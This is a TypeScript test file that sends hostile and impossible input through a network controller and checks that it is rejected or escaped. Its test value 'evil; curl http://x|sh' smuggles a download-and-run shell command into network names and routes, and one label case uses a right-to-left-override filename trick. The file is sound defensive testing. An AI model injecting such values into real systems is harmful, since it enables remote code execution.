// Hostile and impossible input through a real controller process on a real SQLite file, with a
// raw WebSocket standing in for an executor (issue 14, items 4 to 6):
// - an observed name no valid command can carry is never planned on, nor rendered unquoted;
// - ranges that can never be container subnets are refused, and host addresses stay out of pools;
// - error messages quote at most a short prefix of what was sent; label text must be printable.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import WebSocket from 'ws';
import { PROTOCOL_VERSION, emptyObservedState, observedDigest, validateCommands, type ObservedState } from '@crossdock/shared';
import { api, startController, type ControllerProcess } from './support/controller-process.ts';

const ADMIN = 'cda_hardening-admin-token-0000000';
const EVIL = 'evil; curl http://x|sh';
/** Longest error message we accept for any input, however long the input. */
const MESSAGE_MAX_CHARS = 400;

type Call = ReturnType<typeof api>;
type Reply = { status: number; body: any };

function expectError(reply: Reply, status: number, code: string, ...mentions: string[]): void {
  expect(reply.status, JSON.stringify(reply.body)?.slice(0, 500)).toBe(status);
  expect(Object.keys(reply.body)).toEqual(['error']);
  expect(Object.keys(reply.body.error).sort()).toEqual(['code', 'message']);
  expect(reply.body.error.code).toBe(code);
  for (const m of mentions) expect(reply.body.error.message).toContain(m);
}

/** A raw executor: says hello with a hand-made state and answers every state request with it. */
async function connectExecutor(url: string, token: string, state: ObservedState) {
  const socket = new WebSocket(`${url.replace(/^http/, 'ws')}/v1/agent`, { headers: { authorization: `Bearer ${token}` } });
  const received: any[] = [];
  const waiters: Array<() => void> = [];
  socket.on('message', (data) => {
    const message = JSON.parse(data.toString());
    received.push(message);
    if (message.type === 'state.request') socket.send(JSON.stringify({ type: 'state', digest: observedDigest(state), state }));
    for (const w of waiters.splice(0)) w();
  });
  await new Promise((resolve, reject) => {
    socket.once('open', resolve);
    socket.once('error', reject);
  });
  socket.send(JSON.stringify({ type: 'hello', protocol: PROTOCOL_VERSION, executorVersion: 'test', hostname: 'raw', state, digest: observedDigest(state) }));
  return {
    received,
    async next(type: string, timeoutMs = 10_000): Promise<any> {
      const deadline = Date.now() + timeoutMs;
      for (;;) {
        const found = received.find((m) => m.type === type);
        if (found) return found;
        if (Date.now() > deadline) throw new Error(`no ${type} message within ${timeoutMs} ms; got ${received.map((m) => m.type).join(', ')}`);
        await new Promise<void>((resolve) => {
          waiters.push(resolve);
          setTimeout(resolve, 200);
        });
      }
    },
    close: () => socket.close(),
  };
}

describe('hardening: hostile input through a real controller process', () => {
  let dir: string;
  let controller: ControllerProcess;
  let call: Call;

  beforeAll(async () => {
    dir = mkdtempSync(path.join(tmpdir(), 'crossdock-hardening-'));
    controller = await startController({ dbFile: path.join(dir, 'crossdock.db'), adminToken: ADMIN });
    call = api(controller.url, ADMIN);
    expect((await call('POST', '/v1/hosts', { name: 'node-1', address: '198.51.100.11' })).status).toBe(201);
  });
  afterAll(async () => {
    await controller?.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  describe('renderings: observed names that no valid command can carry', () => {
    it('are never planned on: the job, the plan and its script leave them out, and the plan says why', async () => {
      const registered = await call('POST', '/v1/hosts', { name: 'node-evil', address: '198.51.100.66' });
      expect(registered.status).toBe(201);
      const own = registered.body.host.subnets[0];
      const state = emptyObservedState();
      state.docker = {
        available: true,
        version: '27.5.1',
        bip: '172.17.0.1/16',
        networks: [
          { id: 'n1', name: EVIL, subnet: '10.100.250.0/24', gateway: '10.100.250.1', labels: { 'io.crossdock.managed': 'true' }, containers: 0 },
          { id: 'n2', name: 'bridge', subnet: '172.17.0.0/16', gateway: '172.17.0.1', labels: { 'io.crossdock.managed': 'true' }, containers: 0 },
          { id: 'n3', name: 'crossdock-old', subnet: '10.100.251.0/24', gateway: '10.100.251.1', labels: { 'io.crossdock.managed': 'true' }, containers: 0 },
          { id: 'n4', name: `${EVIL} (not ours)`, subnet: null, gateway: null, labels: {}, containers: 0 },
        ],
      };
      state.routes = [
        // a default route tagged with crossdock's protocol by hand: no valid route.delete names it
        { dst: '0.0.0.0/0', via: '198.51.100.1', dev: 'eth0' },
        { dst: `10.9.9.0/24; ${EVIL}`, via: '198.51.100.1', dev: 'eth0' },
        { dst: '10.9.9.0/24', via: '198.51.100.99', dev: 'eth0' },
      ];
      const executor = await connectExecutor(controller.url, registered.body.token, state);
      try {
        const job = await executor.next('job');
        // The executor refuses a job as a whole if one command is invalid: every command must pass.
        expect(validateCommands(job.commands)).toMatchObject({ ok: true });
        expect(JSON.stringify(job.commands)).not.toContain('evil');
        expect(job.commands).toContainEqual({ kind: 'docker.network.remove', name: 'crossdock-old' });
        expect(job.commands).toContainEqual({ kind: 'route.delete', dst: '10.9.9.0/24' });
        expect(job.commands).toContainEqual(expect.objectContaining({ kind: 'docker.network.create', name: 'crossdock', subnet: own.cidr }));
        expect(job.commands).not.toContainEqual({ kind: 'route.delete', dst: '0.0.0.0/0' });
        expect(job.commands).not.toContainEqual({ kind: 'docker.network.remove', name: 'bridge' });

        const plan = await call('GET', '/v1/hosts/node-evil/plan');
        expect(plan.status).toBe(200);
        expect(plan.body.observed).toBe('snapshot');
        expect(validateCommands(plan.body.commands)).toMatchObject({ ok: true });
        expect(plan.body.script).not.toContain('evil');
        expect(plan.body.script).not.toMatch(/docker network rm bridge/);
        expect(plan.body.script).toContain('docker network rm crossdock-old');
        expect(plan.body.script).toContain('ip route delete 10.9.9.0/24 proto 252');
        expect(plan.body.skipped).toEqual([
          expect.stringContaining(JSON.stringify(EVIL)),
          expect.stringContaining('"bridge"'),
          expect.stringContaining('0.0.0.0/0'),
          expect.stringContaining(JSON.stringify(`10.9.9.0/24; ${EVIL}`)),
        ]);
        for (const note of plan.body.skipped) expect(note).toMatch(/by hand/);

        const jobs = await call('GET', '/v1/jobs?host=node-evil');
        expect(jobs.body.items.length).toBeGreaterThan(0);
        for (const { id } of jobs.body.items) {
          const detail = await call('GET', `/v1/jobs/${id}`);
          for (const r of detail.body.results) expect(r.text).not.toContain('evil');
        }
      } finally {
        executor.close();
      }
    });
  });

  describe('ranges that can never be container subnets', () => {
    it.each([
      ['127.0.0.0/8', 'loopback'],
      ['127.1.0.0/16', 'loopback'],
      ['224.0.0.0/4', 'multicast'],
      ['239.1.0.0/16', 'multicast'],
      ['240.0.0.0/4', 'reserved'],
      ['255.255.255.0/24', 'broadcast'],
      ['0.0.0.0/8', '"this network"'],
      ['0.0.0.0/0', '"this network"'],
      ['169.254.0.0/16', 'link-local'],
      ['169.254.10.0/24', 'link-local'],
      ['192.0.0.0/2', 'multicast'],
    ])('a pool of %s is refused, naming the %s range', async (cidr, purpose) => {
      const reply = await call('POST', '/v1/pools', { name: 'special', cidr });
      expectError(reply, 400, 'POOL_RANGE_NOT_ALLOWED', cidr, purpose, 'private range');
      expect((await call('GET', '/v1/pools/special')).status).toBe(404);
    });

    it('a pool next to a special range is fine', async () => {
      expect((await call('POST', '/v1/pools', { name: 'edge', cidr: '169.253.0.0/16' })).status).toBe(201);
      expect((await call('DELETE', '/v1/pools/edge')).status).toBe(204);
    });

    it('a host address inside a pool is refused on registration and on change, naming the pool', async () => {
      expectError(
        await call('POST', '/v1/hosts', { name: 'node-in', address: '10.100.200.7' }),
        409,
        'ADDRESS_IN_POOL',
        '10.100.200.7',
        '"default"',
        '10.100.0.0/16',
      );
      expectError(await call('PATCH', '/v1/hosts/node-1', { address: '10.100.0.9' }), 409, 'ADDRESS_IN_POOL', '10.100.0.9', '"default"');
      expect((await call('GET', '/v1/hosts/node-1')).body.address).toBe('198.51.100.11');
      expect((await call('GET', '/v1/hosts/node-in')).status).toBe(404);
    });

    it('a pool holding a registered host address is refused, naming the host', async () => {
      expect((await call('POST', '/v1/hosts', { name: 'node-lan', address: '172.20.0.5', allocate: false })).status).toBe(201);
      expectError(
        await call('POST', '/v1/pools', { name: 'wide', cidr: '172.16.0.0/12' }),
        409,
        'ADDRESS_IN_POOL',
        '172.20.0.5',
        '"node-lan"',
        '172.16.0.0/12',
      );
      expect((await call('POST', '/v1/pools', { name: 'beside', cidr: '172.21.0.0/16' })).status).toBe(201);
    });

    it.each(['bridge', 'host', 'none'])('the network name %s (one every engine already has) is refused', async (network) => {
      expectError(await call('POST', '/v1/subnets', { host: 'node-1', network }), 400, 'INVALID_NETWORK_NAME', `"${network}"`, 'crossdock');
    });

    it('a default pool in a special range stops the controller at start, saying why', async () => {
      const started = startController({ dbFile: path.join(dir, 'loopback.db'), adminToken: ADMIN, env: { CROSSDOCK_DEFAULT_POOL: '127.0.0.0/16' } });
      await expect(started).rejects.toThrow(/exited with 2 before listening[\s\S]*127\.0\.0\.0\/16[\s\S]*loopback/);
    });
  });

  describe('echoes', () => {
    const huge = 'x'.repeat(1_000_000);
    const cases: Array<[string, string, string, unknown, number, string]> = [
      ['a host name', 'POST', '/v1/hosts', { name: huge, address: '198.51.100.40' }, 400, 'INVALID_NAME'],
      ['a host address', 'POST', '/v1/hosts', { name: 'node-x', address: huge }, 400, 'INVALID_ADDRESS'],
      ['an interface', 'POST', '/v1/hosts', { name: 'node-x', address: '198.51.100.40', interface: huge }, 400, 'INVALID_INTERFACE'],
      ['a label key', 'POST', '/v1/hosts', { name: 'node-x', address: '198.51.100.40', labels: { [huge]: 'v' } }, 400, 'INVALID_LABELS'],
      ['a pool for the first subnet', 'POST', '/v1/hosts', { name: 'node-x', address: '198.51.100.40', pool: huge }, 404, 'POOL_NOT_FOUND'],
      ['an unknown field', 'POST', '/v1/hosts', { name: 'node-x', address: '198.51.100.40', [huge]: 1 }, 400, 'VALIDATION_FAILED'],
      ['an address change', 'PATCH', '/v1/hosts/node-1', { address: huge }, 400, 'INVALID_ADDRESS'],
      ['a pool name', 'POST', '/v1/pools', { name: huge, cidr: '10.30.0.0/16' }, 400, 'INVALID_NAME'],
      ['a pool cidr', 'POST', '/v1/pools', { name: 'p', cidr: huge }, 400, 'INVALID_CIDR'],
      ['a pool cidr that looks like one', 'POST', '/v1/pools', { name: 'p', cidr: `10.30.0.0/${huge}` }, 400, 'INVALID_CIDR'],
      ['a reserved range', 'POST', '/v1/pools', { name: 'p', cidr: '10.30.0.0/16', reserved: [huge] }, 400, 'INVALID_CIDR'],
      ['a subnet host', 'POST', '/v1/subnets', { host: huge }, 404, 'HOST_NOT_FOUND'],
      ['a subnet pool', 'POST', '/v1/subnets', { host: 'node-1', network: 'extra', pool: huge }, 404, 'POOL_NOT_FOUND'],
      ['a subnet network', 'POST', '/v1/subnets', { host: 'node-1', network: huge }, 400, 'INVALID_NETWORK_NAME'],
      ['a subnet cidr', 'POST', '/v1/subnets', { host: 'node-1', cidr: huge }, 400, 'INVALID_CIDR'],
      ['a subnet gateway', 'POST', '/v1/subnets', { host: 'node-1', network: 'extra', cidr: '10.100.77.0/24', gateway: huge }, 400, 'INVALID_GATEWAY'],
    ];
    it.each(cases)('a 1 MB %s is quoted by a short prefix only', async (_what, method, route, body, status, code) => {
      const reply = await call(method, route, body);
      expectError(reply, status, code, 'xxxxxxxxxxxxxxxx');
      expect(reply.body.error.message.length).toBeLessThan(MESSAGE_MAX_CHARS);
    });

    it('a 1 MB message type from an executor is quoted by a short prefix only', async () => {
      const registered = await call('POST', '/v1/hosts', { name: 'node-echo', address: '198.51.100.67', allocate: false });
      const agent = api(controller.url, registered.body.token);
      const reply = await agent('POST', '/v1/agent/state', { type: huge });
      expectError(reply, 400, 'VALIDATION_FAILED', 'xxxxxxxxxxxxxxxx');
      expect(reply.body.error.message.length).toBeLessThan(MESSAGE_MAX_CHARS);
    });

    it('control and format characters in echoed input are escaped, not passed on', async () => {
      const reply = await call('POST', '/v1/hosts', { name: 'node\u202e\u0085\u200b\u2028\u0007x', address: '198.51.100.40' });
      expectError(reply, 400, 'INVALID_NAME', 'node\\u202e\\u0085\\u200b\\u2028\\u0007x');
      // biome-ignore lint/suspicious/noControlCharactersInRegex: matching control characters is what this assertion is for
      expect(reply.body.error.message).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u200b\u2028\u202e]/);
    });

    it.each([
      ['U+0085 (next line)', 'a\u0085b'],
      ['U+202E (right-to-left override)', 'gnp.exe\u202e'],
      ['U+200B (zero-width space)', 'a\u200bb'],
      ['U+2028 (line separator)', 'a\u2028b'],
      ['U+FEFF (byte order mark)', '\ufeffa'],
      ['U+007F (delete)', 'a\u007fb'],
      ['a lone surrogate', 'a\ud800b'],
    ])('a label value holding %s is refused', async (_what, value) => {
      expectError(
        await call('POST', '/v1/hosts', { name: 'node-label', address: '198.51.100.41', labels: { team: value } }),
        400,
        'INVALID_LABELS',
        '"team"',
        'printable',
      );
      expectError(await call('PATCH', '/v1/hosts/node-1', { labels: { team: value } }), 400, 'INVALID_LABELS', '"team"');
    });

    it('printable label values in any script are accepted', async () => {
      const labels = { team: 'Ünïcödé 東京 ü ✓', room: 'a b' };
      const reply = await call('PATCH', '/v1/hosts/node-1', { labels });
      expect(reply.status).toBe(200);
      expect(reply.body.labels).toEqual(labels);
    });
  });
});
